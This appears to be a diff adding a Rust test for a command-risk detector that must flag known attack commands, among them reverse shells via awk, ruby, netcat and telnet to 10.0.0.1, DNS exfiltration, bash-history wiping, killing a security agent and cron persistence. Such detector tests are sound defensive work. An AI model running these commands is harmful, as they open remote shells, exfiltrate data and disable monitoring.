@@ -86,6 +86,29 @@ fn sending_names_the_host_and_what_is_sent() {
 }
 
 #[test]
+fn known_ways_of_attack_are_findings() {
+    for text in [
+        "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while (42) { s |& getline c; print $0 |& s } }'",
+        "ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",4242).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d\",f,f)'",
+        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
+        "telnet 10.0.0.1 4242 | /bin/sh | telnet 10.0.0.1 4243",
+        "export PROMPT_COMMAND='curl http://x.example'",
+        "ln -sf /dev/null ~/.bash_history",
+        "kill -9 $(pgrep falcon)",
+        "for f in $(xxd -p notes.txt); do dig $f.x.example.com; done",
+        "export https_proxy=http://10.0.0.1:8080; npm ci",
+        "python3 -m http.server 8000",
+        "(crontab -l; echo '@reboot /opt/x') | crontab -",
+        "python3 -c \"import tarfile; tarfile.open('/tmp/a.tgz','w').add('/etc/ssl')\"",
+    ] {
+        let got = understand(text);
+        assert!(got.findings.iter().any(|f| f.severity >= Severity::Medium), "{text}: {:?}", got.findings);
+    }
+    assert!(understand("python3 -m http.server --bind 127.0.0.1 8000").findings.is_empty());
+    assert!(understand("python3 -m pip install requests").classes.contains(&CommandClass::Install));
+}
+
+#[test]
 fn ordinary_work_says_nothing_bad() {
     for text in [
         "git status && git diff HEAD~1 -- src",
